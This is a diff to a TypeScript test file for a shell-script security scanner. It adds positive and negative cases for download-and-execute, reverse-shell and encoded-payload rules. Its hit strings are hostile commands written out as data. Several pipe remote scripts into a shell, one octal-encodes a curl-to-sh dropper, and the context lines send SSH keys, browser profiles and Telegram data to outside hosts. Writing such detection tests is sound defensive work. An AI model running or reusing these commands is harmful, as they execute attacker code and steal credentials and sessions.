@@ -225,6 +225,14 @@ const CASES: Case[] = [
   { rule: 'exfil.credential-send', path: 'i.sh', hit: 'rclone copy ~/.ssh drop:loot/ssh\n', miss: 'rclone copy ~/Pictures gdrive:backup/pictures\nrclone sync ~/Documents/notes gdrive:notes\n' },
   { rule: 'exfil.stealer-send', path: 'j.sh', hit: 'zip -qr /tmp/ff.zip ~/.mozilla/firefox/*.default-release && curl -s -F f=@/tmp/ff.zip https://x.example/u\n', miss: 'firefox -P work https://x.example/ &\ncurl -s -F f=@/tmp/report.zip https://x.example/u\n' },
   { rule: 'exfil.stealer-send', path: 'k.sh', hit: 'zip -qr /tmp/t.zip ~/.local/share/TelegramDesktop/tdata && curl -s -F f=@/tmp/t.zip https://x.example/u\n', miss: 'telegram-desktop &\ncurl -s -F f=@/tmp/t.zip https://x.example/u\n' },
+  // Fifth probe: the dropper through other fetchers (HTTPie, lwp's GET, BSD fetch, busybox, a socket) and octal escapes.
+  { rule: 'download.pipe-shell', path: 'a.sh', hit: 'http --body https://cdn.example.dev/x | bash\n', miss: 'http GET https://api.example.com/v1/x | jq .\n' },
+  { rule: 'download.raw-ip-exec', path: 'a.sh', hit: 'GET http://203.0.113.22/p.sh | sh\n', miss: 'GET https://api.example.com/v1/items | jq .\n' },
+  { rule: 'download.raw-ip-exec', path: 'b.sh', hit: 'sh -c "$(fetch -qo - http://203.0.113.23/b.sh)"\n', miss: 'fetch -o /tmp/ports.tar.gz https://download.freebsd.org/ports/ports.tar.gz\n' },
+  { rule: 'download.raw-ip-exec', path: 'c.sh', hit: 'busybox wget -qO- http://203.0.113.21/r.sh | busybox sh\n', miss: 'busybox wget -O /tmp/fw.img https://downloads.openwrt.org/fw.img\nbusybox sh -c "sysupgrade /tmp/fw.img"\n' },
+  { rule: 'exec.reverse-shell', path: 'a.sh', hit: 'nc 203.0.113.27 8080 | sh\n', miss: 'nc -zv db.internal 5432\nnc example.com 80 < request.txt | tee reply.txt\n' },
+  { rule: 'exec.reverse-shell', path: 'b.sh', hit: 'exec 3<>/dev/tcp/203.0.113.26/80\nprintf "GET /s HTTP/1.0\\r\\n\\r\\n" >&3\nsed "1,/^\\r$/d" <&3 | bash\n', miss: 'exec 3<>/dev/tcp/example.com/80\nprintf "GET / HTTP/1.0\\r\\n\\r\\n" >&3\ncat <&3\n' },
+  { rule: 'payload.encoded-command', path: 'a.sh', hit: "printf '\\143\\165\\162\\154\\040\\055\\163\\040\\150\\164\\164\\160\\072\\057\\057\\062\\060\\063\\056\\060\\056\\061\\061\\063\\056\\063\\067\\057\\170\\040\\174\\040\\163\\150' | bash\n", miss: "printf '\\110\\145\\154\\154\\157\\040\\146\\162\\157\\155\\040\\164\\150\\145\\040\\157\\143\\164\\141\\154\\040\\160\\162\\151\\156\\164\\145\\162\\054\\040\\167\\157\\162\\154\\144\\041'\n" },
 ];
 
 describe('scan rules: each rule has a positive and a negative synthetic case', () => {
